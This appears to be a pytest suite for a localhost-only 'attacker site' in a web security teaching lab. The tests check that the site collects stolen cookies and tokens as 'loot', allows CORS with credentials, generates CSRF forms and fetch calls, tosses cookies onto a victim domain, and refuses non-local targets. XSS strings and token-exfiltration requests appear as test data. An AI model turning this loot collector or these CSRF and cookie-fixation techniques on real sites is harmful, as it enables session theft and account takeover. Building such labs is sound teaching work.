"""The attacker's site: it keeps what it is sent, lets every page send, and aims at this machine only."""

import json
import re
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import requests

VICTIM = "http://127.0.0.1:8000"


class Attacker(NamedTuple):
    """The attacker's site, and the lab world in which it keeps its loot."""

    url: str
    http: requests.Session
    world: Path

    def loot(self) -> list[dict[str, Any]]:
        return self.http.get(f"{self.url}/loot.json").json()


@pytest.fixture(scope="module")
def attacker(lab_world, manage, serve) -> Attacker:
    world = lab_world(nonce="bad")
    variables = {"LAB_WORLD": world, "DJANGO_SETTINGS_MODULE": "config.settings.attacker"}
    migrated = manage("migrate", "attacker", **variables)
    assert migrated.returncode == 0, migrated.stderr
    site = serve(**variables)
    return Attacker(site.url, site.http, world)


def last(attacker: Attacker) -> dict[str, Any]:
    entry = attacker.loot()[-1]
    entry.pop("id")
    return entry


def test_loot_keeps_all_of_a_request(attacker):
    answer = attacker.http.post(
        f"{attacker.url}/loot?access=eyJ%2E%C3%A9",
        data="stolen é".encode(),
        cookies={"refresh_token": "eyJ"},
        headers={"Origin": VICTIM, "Referer": f"{VICTIM}/app/local/"},
    )
    assert (answer.status_code, answer.content) == (204, b"")
    assert last(attacker) == {
        "at": "2026-01-05T09:00:00Z",
        "method": "POST",
        "query": "access=eyJ.é",
        "body": "stolen é",
        "cookies": "refresh_token=eyJ",
        "origin": VICTIM,
        "referer": f"{VICTIM}/app/local/",
    }


def test_what_a_request_does_not_have_is_empty(attacker):
    attacker.http.get(f"{attacker.url}/loot")
    assert set(last(attacker).values()) == {"2026-01-05T09:00:00Z", "GET", ""}


def test_an_image_gets_a_pixel(attacker):
    answer = attacker.http.get(
        f"{attacker.url}/loot?x", headers={"Accept": "image/avif,image/webp,*/*;q=0.8"}
    )
    assert (answer.headers["Content-Type"], answer.content[:6]) == ("image/gif", b"GIF89a")


@pytest.mark.parametrize("path", ["/loot", "/loot.json"])
def test_every_origin_may_send_with_cookies_and_read(attacker, path):
    headers = {"Origin": VICTIM, "Access-Control-Request-Headers": "x-auth-request"}
    before = len(attacker.loot())
    preflight = attacker.http.options(attacker.url + path, headers=headers)
    assert preflight.status_code == 204
    assert preflight.headers["Access-Control-Allow-Headers"] == "x-auth-request"
    assert len(attacker.loot()) == before  # a question whether one may send is no loot
    answer = attacker.http.get(attacker.url + path, headers=headers)
    assert answer.headers["Access-Control-Allow-Origin"] == VICTIM
    assert answer.headers["Access-Control-Allow-Credentials"] == "true"


def test_loot_is_shown_as_text(attacker):
    attacker.http.post(f"{attacker.url}/loot", data="<script>alert(1)</script>")
    page = attacker.http.get(attacker.url).text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script" not in page


def test_processes_that_share_a_world_share_the_loot(attacker, serve):
    other = serve(LAB_WORLD=attacker.world, DJANGO_SETTINGS_MODULE="config.settings.attacker")
    before = len(attacker.loot())
    urls = [f"{(attacker, other)[n % 2].url}/loot?n={n}" for n in range(40)]
    with ThreadPoolExecutor(8) as pool:
        statuses = {answer.status_code for answer in pool.map(attacker.http.post, urls)}
    assert statuses == {204}
    added = attacker.loot()[before:]
    assert {entry["query"] for entry in added} == {f"n={n}" for n in range(40)}
    assert other.http.get(f"{other.url}/loot.json").json()[before:] == added


def test_a_form_sends_what_its_address_says(attacker):
    query = {
        "action": f"{VICTIM}/login/",
        "enctype": "text/plain",
        "username": "mallory",
        '{"a": "': '"}',
        "submit": "<b>",
    }
    page = attacker.http.get(f"{attacker.url}/form/", params=query).text
    assert f'<form action="{VICTIM}/login/" method="post" enctype="text/plain">' in page
    assert re.findall('<input type="hidden" name="([^"]*)" value="([^"]*)">', page) == [
        ("username", "mallory"),
        ("{&quot;a&quot;: &quot;", "&quot;}"),
        ("submit", "&lt;b&gt;"),
    ]
    assert "attacker/form.js" in page


def test_a_script_sends_what_its_address_says(attacker):
    query = {
        "url": f"{VICTIM}/login/",
        "method": "POST",
        "mode": "no-cors",
        "body": "</script>",
        "header": ["Content-Type: text/plain", "X: 1:2"],
    }
    page = attacker.http.get(f"{attacker.url}/fetch/", params=query).text
    url, options = re.findall('<script id="(?:url|options)" type="application/json">(.*?)</script>', page)
    assert json.loads(url) == f"{VICTIM}/login/"
    assert json.loads(options) == {
        "method": "POST",
        "mode": "no-cors",
        "body": "</script>",
        "headers": {"Content-Type": "text/plain", "X": "1:2"},
    }


def test_a_cookie_is_tossed_as_the_address_says(attacker):
    query = {"name": "refresh_token", "value": "mine", "domain": "app.localhost"}
    answer = attacker.http.get(f"{attacker.url}/toss/", params=query)
    assert answer.headers["Set-Cookie"] == "refresh_token=mine; Domain=app.localhost; Path=/"


@pytest.mark.parametrize("path", ["/form/?action=", "/fetch/?url="], ids=["form", "fetch"])
@pytest.mark.parametrize(
    "target",
    [
        "",
        "http://example.org/",
        "http://localhost.example.org/",
        "http://127.0.0.1@example.org/",
        "http://192.168.1.7/",
        "//example.org/",
        "/loot",
        "javascript:alert(1)//localhost",
        "http://[half",
    ],
)
def test_what_is_not_on_this_machine_is_no_target(attacker, path, target):
    answer = attacker.http.get(attacker.url + path + target)
    assert (answer.status_code, answer.headers["Content-Type"]) == (400, "text/plain; charset=utf-8")
    assert repr(target) in answer.text


@pytest.mark.parametrize(
    "host", ["localhost:8000", "app.localhost", "127.0.0.1", "127.9.9.9:1", "[::1]:8000"]
)
def test_every_name_of_this_machine_is_a_target(attacker, host):
    assert attacker.http.get(f"{attacker.url}/form/?action=http://{host}/").status_code == 200


def test_a_name_that_no_cookie_can_have_is_refused(attacker):
    assert attacker.http.get(f"{attacker.url}/toss/?name=a%20b").status_code == 400


def test_it_has_no_route_of_the_sites_it_attacks(attacker):
    paths = ["/login/", "/api/token/", "/guestbook/", "/admin/", "/app/local/"]
    assert {attacker.http.get(attacker.url + path).status_code for path in paths} == {404}


def test_each_of_its_pages_says_what_it_is(attacker):
    paths = ["/", f"/form/?action={VICTIM}/", f"/fetch/?url={VICTIM}/", "/toss/?name=a"]
    for path in paths:
        assert "a teaching tool · reaches this machine only" in attacker.http.get(attacker.url + path).text


def test_on_its_own_it_keeps_out_of_the_other_faces_database(manage):
    script = "from django.conf import settings; print(settings.DATABASES['default']['NAME'].name)"
    result = manage("shell", "-c", script, DJANGO_SETTINGS_MODULE="config.settings.attacker")
    assert result.stdout.split()[-1] == "attacker.sqlite3", result.stderr


def test_no_migration_is_missing(attacker, manage):
    variables = {"LAB_WORLD": attacker.world, "DJANGO_SETTINGS_MODULE": "config.settings.attacker"}
    result = manage("makemigrations", "--check", "--dry-run", "attacker", **variables)
    assert result.returncode == 0, result.stdout
